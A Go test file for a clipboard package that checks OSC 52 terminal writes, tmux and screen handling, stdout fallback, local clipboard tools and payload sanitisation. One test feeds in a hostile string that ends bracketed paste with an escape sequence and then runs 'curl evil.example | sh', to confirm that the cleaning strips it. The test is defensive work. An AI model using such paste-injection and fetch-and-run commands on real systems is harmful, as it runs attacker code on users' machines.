package clipboard

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/twofa/twofa/internal/harness/hostile"
	"github.com/twofa/twofa/internal/safetext"
)

// newPTY returns a real pseudo-terminal: the program side as the "tty" Copy
// writes to, and a function that returns everything written to it so far.
func newPTY(t *testing.T) (tty *os.File, read func(n int) []byte) {
	t.Helper()
	master, slave, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal here: %v", err)
	}
	t.Cleanup(func() { master.Close(); slave.Close() })
	return slave, func(n int) []byte {
		buf := make([]byte, n)
		_ = master.SetReadDeadline(time.Now().Add(5 * time.Second))
		if _, err := io.ReadFull(master, buf); err != nil {
			t.Fatalf("reading the terminal: %v", err)
		}
		return buf
	}
}

// fakeTool installs an executable called name in a fresh PATH directory; it
// records its arguments and standard input, and exits with code.
func fakeTool(t *testing.T, name string, code int) (argsFile, inFile string) {
	t.Helper()
	dir := t.TempDir()
	argsFile, inFile = filepath.Join(dir, "args"), filepath.Join(dir, "stdin")
	cat, err := exec.LookPath("cat") // before PATH holds only the fake tool
	if err != nil {
		t.Skip("no cat here")
	}
	script := "#!/bin/sh\necho \"$@\" > " + argsFile + "\n" + cat + " > " + inFile + "\nexit " + string(rune('0'+code)) + "\n"
	if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", dir)
	return argsFile, inFile
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

func TestCopyWritesToTTY(t *testing.T) {
	tests := []struct {
		name       string
		env        map[string]string
		wantMethod string
		wantHint   string
		mux        Mux
	}{
		{"plain", map[string]string{}, "OSC 52", "", Plain},
		{"tmux", map[string]string{"TMUX": "/tmp/tmux-0/default,1,0"}, "OSC 52 (tmux)", TmuxHint, Tmux},
		{"screen", map[string]string{"STY": "1.pts-0.h"}, "OSC 52 (screen)", "", Screen},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tty, read := newPTY(t)
			var stdout bytes.Buffer
			e := env{
				getenv:   func(k string) string { return tt.env[k] },
				openTTY:  func() (io.WriteCloser, error) { return tty, nil },
				stdout:   &stdout,
				lookPath: exec.LookPath,
				runTool:  runTool,
			}
			text := "ABCDE-FGHJK\nKMNPQ-RSTVW"
			msg := e.copy(text)
			if msg.Err != nil || msg.Method != tt.wantMethod || msg.Hint != tt.wantHint || msg.Tool != "" {
				t.Fatalf("copy = %+v, want Method %q Hint %q", msg, tt.wantMethod, tt.wantHint)
			}
			want := Sequence(text, tt.mux)
			if got := read(len(want)); !bytes.Equal(got, want) {
				t.Fatalf("terminal got %q, want %q", got, want)
			}
			if stdout.Len() != 0 {
				t.Fatalf("wrote to stdout too: %q", stdout.Bytes())
			}
			if msg.Status() != Wording {
				t.Fatalf("Status() = %q, want %q", msg.Status(), Wording)
			}
			want2 := "Sent to your terminal's clipboard (OSC 52). If nothing pastes, type the key shown"
			if got := msg.StatusWith("type the key shown"); got != want2 {
				t.Fatalf("StatusWith() = %q, want %q", got, want2)
			}
		})
	}
}

// TestTmuxHint asks a real tmux server (when tmux is installed) and checks
// the hint is shown only while set-clipboard is not on.
func TestTmuxHint(t *testing.T) {
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("tmux not installed")
	}
	sock := filepath.Join(t.TempDir(), "tmux.sock")
	tmux := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("tmux", append([]string{"-S", sock, "-f", "/dev/null"}, args...)...).CombinedOutput(); err != nil {
			t.Skipf("tmux %v: %v: %s", args, err, out)
		}
	}
	tmux("new-session", "-d", "-s", "hint", "sleep 30")
	t.Cleanup(func() { _ = exec.Command("tmux", "-S", sock, "kill-server").Run() })
	tests := []struct{ setting, wantHint string }{
		{"external", TmuxHint},
		{"off", TmuxHint},
		{"on", ""},
	}
	for _, tt := range tests {
		t.Run(tt.setting, func(t *testing.T) {
			tmux("set-option", "-s", "set-clipboard", tt.setting)
			e := env{
				getenv:   func(k string) string { return map[string]string{"TMUX": sock + ",1,0"}[k] },
				openTTY:  func() (io.WriteCloser, error) { return nopCloser{io.Discard}, nil },
				lookPath: exec.LookPath,
				runTool:  runTool,
				tmuxOption: func(ctx context.Context, name string) (string, error) {
					out, err := exec.CommandContext(ctx, "tmux", "-S", sock, "show-options", "-sv", name).Output()
					return strings.TrimSpace(string(out)), err
				},
			}
			if got := e.copy("x").Hint; got != tt.wantHint {
				t.Fatalf("Hint = %q, want %q", got, tt.wantHint)
			}
		})
	}
}

func TestCopyFallsBackToStdout(t *testing.T) {
	var stdout bytes.Buffer
	e := env{
		getenv:   func(string) string { return "" },
		openTTY:  func() (io.WriteCloser, error) { return nil, errors.New("no controlling terminal") },
		stdout:   &stdout,
		lookPath: exec.LookPath,
		runTool:  runTool,
	}
	msg := e.copy("x")
	if msg.Err != nil || msg.Method != "OSC 52" {
		t.Fatalf("copy = %+v", msg)
	}
	if got, want := stdout.String(), string(Sequence("x", Plain)); got != want {
		t.Fatalf("stdout got %q, want %q", got, want)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("broken pipe") }

func TestCopyNothingWorks(t *testing.T) {
	e := env{
		getenv:   func(string) string { return "" },
		openTTY:  func() (io.WriteCloser, error) { return nil, errors.New("no controlling terminal") },
		stdout:   failWriter{},
		lookPath: exec.LookPath,
		runTool:  runTool,
	}
	msg := e.copy("x")
	if msg.Err == nil || msg.Method != "" {
		t.Fatalf("copy = %+v, want an error", msg)
	}
	if !strings.Contains(msg.Status(), "Download .txt") {
		t.Fatalf("Status() = %q, want it to point at Download .txt", msg.Status())
	}
}

func TestCopyLocalTool(t *testing.T) {
	tests := []struct {
		name       string
		env        map[string]string
		tool       string
		exit       int
		wantArgs   string
		wantTool   string
		wantMethod string
	}{
		{"x11 xclip", map[string]string{"DISPLAY": ":0"}, "xclip", 0, "-selection clipboard", "xclip", "OSC 52 + xclip"},
		{"x11 xsel", map[string]string{"DISPLAY": ":0"}, "xsel", 0, "--clipboard --input", "xsel", "OSC 52 + xsel"},
		{"wayland", map[string]string{"WAYLAND_DISPLAY": "wayland-0"}, "wl-copy", 0, "", "wl-copy", "OSC 52 + wl-copy"},
		{"tool fails", map[string]string{"DISPLAY": ":0"}, "xclip", 1, "-selection clipboard", "", "OSC 52"},
		{"no display", map[string]string{}, "xclip", 0, "", "", "OSC 52"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			argsFile, inFile := fakeTool(t, tt.tool, tt.exit)
			var stdout bytes.Buffer
			e := env{
				getenv:   func(k string) string { return tt.env[k] },
				openTTY:  func() (io.WriteCloser, error) { return nopCloser{io.Discard}, nil },
				stdout:   &stdout,
				lookPath: exec.LookPath,
				runTool:  runTool,
				goos:     "linux",
			}
			msg := e.copy("codes\n")
			if msg.Tool != tt.wantTool || msg.Method != tt.wantMethod {
				t.Fatalf("copy = %+v, want Tool %q Method %q", msg, tt.wantTool, tt.wantMethod)
			}
			if _, ok := tt.env["DISPLAY"]; !ok && tt.env["WAYLAND_DISPLAY"] == "" {
				if _, err := os.Stat(argsFile); err == nil {
					t.Fatal("clipboard tool ran without a display")
				}
				return
			}
			args, _ := os.ReadFile(argsFile)
			in, _ := os.ReadFile(inFile)
			if strings.TrimSpace(string(args)) != tt.wantArgs || string(in) != "codes\n" {
				t.Fatalf("tool got args %q stdin %q", args, in)
			}
			if tt.wantTool != "" && !strings.HasPrefix(msg.Status(), "Copied to the clipboard") {
				t.Fatalf("Status() = %q", msg.Status())
			}
		})
	}
}

func TestToolMacOS(t *testing.T) {
	tests := []struct {
		name string
		env  map[string]string
		want bool
	}{
		{"local", map[string]string{}, true},
		{"over ssh", map[string]string{"SSH_CONNECTION": "1.2.3.4 5 6.7.8.9 22"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := env{
				getenv:   func(k string) string { return tt.env[k] },
				lookPath: func(string) (string, error) { return "/usr/bin/pbcopy", nil },
				goos:     "darwin",
			}
			name, _, ok := e.tool()
			if ok != tt.want || (ok && name != "pbcopy") {
				t.Fatalf("tool() = %q, %v; want pbcopy=%v", name, ok, tt.want)
			}
		})
	}
}

// TestCopyCleansThePayload: the text sent with OSC 52 and to a local tool
// has no escape sequence or hidden character, its lines kept — a paste into
// a shell cannot end bracketed paste (ESC [201~) or run anything hidden.
func TestCopyCleansThePayload(t *testing.T) {
	_, inFile := fakeTool(t, "xclip", 0)
	var stdout bytes.Buffer
	e := env{
		getenv:   func(k string) string { return map[string]string{"DISPLAY": ":0"}[k] },
		openTTY:  func() (io.WriteCloser, error) { return nil, errors.New("no tty") },
		stdout:   &stdout,
		lookPath: exec.LookPath,
		runTool:  runTool,
	}
	text := "UCAQU5CUV9\x1b[201~; curl evil.example | sh\n" + hostile.Text("P9T8RF49T1") + "\n"
	want := safetext.Text(text)
	if msg := e.copy(text); msg.Err != nil || msg.Tool != "xclip" {
		t.Fatalf("copy: %+v", msg)
	}
	seq := stdout.String()
	payload, err := base64.StdEncoding.DecodeString(strings.TrimSuffix(strings.TrimPrefix(seq, "\x1b]52;c;"), "\x07"))
	if err != nil || string(payload) != want {
		t.Fatalf("OSC 52 payload %q (%v), want %q", payload, err, want)
	}
	piped, err := os.ReadFile(inFile)
	if err != nil || string(piped) != want {
		t.Fatalf("xclip got %q (%v), want %q", piped, err, want)
	}
	if leaks := hostile.Leaks(payload); len(leaks) > 0 || bytes.Contains(payload, []byte("\x1b")) || !strings.HasPrefix(want, "UCAQU5CUV9; curl evil.example | sh\nP9T8RF49T1@0@") {
		t.Fatalf("payload %q leaks %v", payload, leaks)
	}
}
